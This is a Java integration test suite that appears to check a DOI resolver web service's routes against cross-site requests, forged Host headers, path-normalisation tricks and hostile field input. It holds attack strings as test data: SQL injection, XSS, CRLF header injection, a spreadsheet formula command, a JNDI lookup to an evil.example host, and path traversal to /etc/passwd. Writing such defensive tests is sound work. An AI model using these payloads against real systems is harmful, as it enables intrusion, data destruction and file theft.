package org.datadns.resolver;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.datadns.protocol.wire.Json;
import org.datadns.protocol.wire.Problem;
import org.datadns.protocol.wire.SessionState;
import org.datadns.resolver.db.TestDatabase;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What holds for every route, tried on each that {@code /openapi.json} describes. */
class EveryRouteIT {
  private static final String DATASET = "doi:10.5072/fk2/abc";

  /** What other web sites make browsers send. */
  private static final List<List<String>> FOREIGN =
      List.of(
          List.of("Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example"),
          List.of("Sec-Fetch-Site", "same-site", "Origin", "https://s1.nb.example"),
          List.of("Sec-Fetch-Site", "cross-site"),
          List.of("Origin", "https://evil.example"),
          List.of("Origin", "null"));

  /** What somebody might write where a text is asked for. */
  private static final List<String> HOSTILE =
      List.of(
          "'; drop table site cascade; --",
          "' or '1'='1",
          "\\'; select pg_sleep(30); --",
          "<script>alert(1)</script>",
          "\" autofocus onfocus=alert(1) x=\"",
          "javascript:alert(1)",
          "x\r\nSet-Cookie: planted=1\r\n\r\n<html>",
          "x\nWARNING an admin did it",
          "\u202Ereversed\u0000\u001b[31m",
          "=cmd|' /C calc'!A0",
          "${jndi:ldap://evil.example/a}{{7*7}}${7*7}",
          "../../../../../../etc/passwd",
          "https://evil.example/\\@localhost",
          // what no request line has room for is refused before it is read: see StrictnessIT
          "a".repeat(600));

  @RegisterExtension static final TestDatabase database = new TestDatabase();
  @TempDir static Path directory;
  private static TestResolver resolver;
  private static TestSite site;
  private static TestPerson person;
  private static String session;

  @BeforeAll
  static void start() {
    resolver = TestResolver.start(database, directory);
    site = TestSite.ready("one", resolver, DATASET);
    site.agentSucceeds();
    person = new TestPerson(resolver);
    session = person.open(DATASET).id();
  }

  @AfterAll
  static void stop() {
    site.close();
    resolver.close();
  }

  static Stream<Operation> all() {
    return Operation.all().stream();
  }

  static Stream<Operation> changes() {
    return all().filter(Operation::isUnsafe);
  }

  static Stream<Operation> pages() {
    return all().filter(it -> it.method().equals("GET"));
  }

  @ParameterizedTest
  @MethodSource("changes")
  void aChangeThatAnotherWebSiteMakesABrowserSend_isRefused(Operation operation) {
    var path = operation.pathWith(operation.path().startsWith("/sessions/") ? session : "one");
    for (var headers : FOREIGN) {
      for (var type :
          List.of("application/x-www-form-urlencoded", "text/plain", "application/json")) {
        var all = new ArrayList<>(headers);
        all.addAll(List.of("Cookie", person.cookie(), "Content-Type", type));
        var answer = resolver.send(operation.method(), path, "{}", all.toArray(String[]::new));
        assertThat(answer.statusCode()).as("%s %s", headers, answer.body()).isEqualTo(403);
        assertThat(Json.read(answer.body(), Problem.class).code()).isEqualTo("cross-site");
      }
      for (var open :
          List.of("/resolve/..;", "/badge/..;x", "/resolve/%2e%2E;", "/api/sites/..;")) {
        var all = new ArrayList<>(headers);
        all.addAll(List.of("Cookie", person.cookie(), "Content-Type", "text/plain"));
        var answer =
            resolver.send(operation.method(), open + path, "{}", all.toArray(String[]::new));
        assertThat(answer.statusCode()).as("%s%s %s", open, path, answer.body()).isIn(400, 403);
        assertThat(answer.headers().map()).doesNotContainKey("access-control-allow-origin");
      }
    }
    assertThat(person.look(session).state()).isNotIn(SessionState.STOPPING, SessionState.ENDED);
  }

  @ParameterizedTest
  @MethodSource("pages")
  void noAnswer_isFramed_sniffed_orRunsWhatIsForeign(Operation operation) {
    for (var accept : List.of("text/html", "application/json")) {
      var answer =
          resolver.get(operation.pathWith("one"), "Accept", accept, "Sec-Fetch-Dest", "iframe");
      var headers = answer.headers();
      assertThat(headers.firstValue("Content-Security-Policy").orElseThrow())
          .contains("frame-ancestors 'none'", "default-src 'none'", "base-uri 'none'")
          .doesNotContain("unsafe", "*");
      assertThat(headers.firstValue("X-Content-Type-Options")).hasValue("nosniff");
      assertThat(headers.firstValue("Cross-Origin-Opener-Policy")).hasValue("same-origin");
      assertThat(headers.firstValue("Referrer-Policy")).isPresent();
    }
  }

  @ParameterizedTest
  @MethodSource("pages")
  void aForgedHost_isNowhereInTheAnswer(Operation operation) throws IOException {
    for (var accept : List.of("text/html", "application/json")) {
      var answer =
          RawHttp.exchange(
              resolver.address(),
              "GET "
                  + operation.pathWith("one")
                  + " HTTP/1.1|Host: forged.example|X-Forwarded-Host: forged.example"
                  + "|X-Forwarded-Proto: forged|X-Forwarded-Prefix: /forged|X-Forwarded-Port: 666"
                  + "|Forwarded: host=forged.example;proto=https|X-Original-URL: /forged"
                  + "|X-Rewrite-URL: /forged|X-HTTP-Method-Override: DELETE|X-Host: forged.example|Accept: "
                  + accept
                  + "||GET / broken||");
      assertThat(answer).startsWith("HTTP/1.1 ").doesNotContain("forged", ":666");
    }
  }

  @ParameterizedTest
  @MethodSource("all")
  void hostileText_inEveryField_breaksNothing_andStaysText(Operation operation) {
    try (var log = LoggedLines.ofEverything()) {
      for (var text : HOSTILE) {
        var answer = send(operation, text);
        assertThat(answer.statusCode()).as(text).isNotEqualTo(500);
        assertThat(answer.body()).as(text).doesNotContain("root:x:0");
        if (answer.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
          assertThat(answer.body())
              .as(text)
              .doesNotContain("<script>alert", "\" autofocus", "\"javascript:alert");
        }
        assertThat(answer.headers().map()).as(text).doesNotContainKey("planted");
        assertThat(answer.headers().allValues("Set-Cookie"))
            .noneMatch(it -> it.contains("planted"));
        answer
            .headers()
            .firstValue("Location")
            .ifPresent(to -> assertThat(to).doesNotStartWith("https://evil").doesNotContain("\n"));
      }
      assertThat(log.lines()).noneMatch(line -> line.contains("\n") || line.contains("\u001b"));
    }
    int sites =
        database
            .jdbi()
            .withHandle(h -> h.select("select count(*) from site").mapTo(Integer.class).one());
    assertThat(sites).isEqualTo(1);
  }

  private static HttpResponse<String> send(Operation operation, String text) {
    var encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    var query =
        operation.inQuery().stream()
            .map(name -> name + "=" + encoded)
            .collect(Collectors.joining("&"));
    var headers =
        new ArrayList<>(
            List.of("Accept", "text/html", "Data-DNS-Who", encoded, "Data-DNS-Why", encoded));
    switch (operation.signedBy().orElse("")) {
      case "admin" -> headers.addAll(List.of("Authorization", "Bearer " + resolver.adminToken()));
      case "person" -> headers.addAll(List.of("Cookie", person.cookie()));
      default -> {}
    }
    operation.body().ifPresent(body -> headers.addAll(List.of("Content-Type", body.type())));
    return resolver.send(
        operation.method(),
        operation.pathWith(encoded) + (query.isEmpty() ? "" : "?" + query),
        operation.body().map(body -> filled(body, text)).orElse(""),
        headers.toArray(String[]::new));
  }

  /** A body with this text wherever one can be. */
  private static String filled(Operation.Body body, String text) {
    var values = new LinkedHashMap<String, Object>();
    body.members()
        .forEach(
            (name, type) -> {
              switch (type) {
                case "string" -> values.put(name, text);
                case "array" -> values.put(name, List.of(text));
                default -> {}
              }
            });
    return Json.write(values);
  }

  /** None of these is what it means to a server that cleans paths up. */
  @Test
  void pathsThatMeanAnotherRoute_leadToNothingOfItsOwn() throws IOException {
    for (var secret : List.of("/api/admin-actions", "/api/namespaces", "/sessions/" + session)) {
      for (var trick :
          List.of(
              "/resolve/.." + secret,
              "/assets/.." + secret,
              "/open/doi:10.5072/x/../../.." + secret,
              "/resolve/%2e%2e" + secret,
              "/resolve/..%2f" + secret.substring(1),
              "/%2e" + secret,
              "//" + secret.substring(1),
              "/." + secret,
              secret + "/.",
              secret + "/x/..",
              secret.replaceFirst("/", "/;a=b/"),
              secret + "%00",
              secret + "%20",
              secret.replace("/", "%2f").replaceFirst("%2f", "/"),
              secret.replace("/", "\\"),
              "http://localhost" + secret)) {
        var answer =
            RawHttp.exchange(
                resolver.address(), "GET " + trick + " HTTP/1.1|Host: h||GET / broken||");
        assertThat(answer.lines().findFirst().orElseThrow())
            .as(trick)
            .containsPattern(" (400|401|404) ");
        assertThat(answer).as(trick).doesNotContain("grant-", "\"id\":\"" + session);
      }
    }
  }

  @Test
  void files_areNotReachedByAnyPath() throws IOException {
    for (var prefix : List.of("/assets/", "/resolve/", "/")) {
      for (var file :
          List.of(
              "../resolver.yaml",
              "..%2f..%2fresolver.yaml",
              "%2e%2e/%2e%2e/etc/passwd",
              "....//....//etc/passwd",
              "/etc/passwd",
              "..%5c..%5cetc%5cpasswd",
              "db/migration/V001__start.sql",
              "logging.properties")) {
        assertThat(
                RawHttp.exchange(
                    resolver.address(),
                    "GET " + prefix + file + " HTTP/1.1|Host: h||GET / broken||"))
            .as(prefix + file)
            .containsPattern("^HTTP/1.1 4")
            .doesNotContain("root:x:0", "data-directory:", "create table", "handlers=");
      }
    }
  }

  /** Spreadsheets take such a file's texts for formulas: {@code CsvTest} says how that is kept. */
  @Test
  void nothingButTheCoverageAndReportsAreToldAsCsv() {
    assertThat(Operation.document().get("paths").properties())
        .filteredOn(
            path ->
                path.getValue().findValues("responses").stream()
                    .anyMatch(told -> !told.findValues("text/csv").isEmpty()))
        .extracting(Map.Entry::getKey)
        .containsExactlyInAnyOrder("/coverage", "/reports");
  }
}
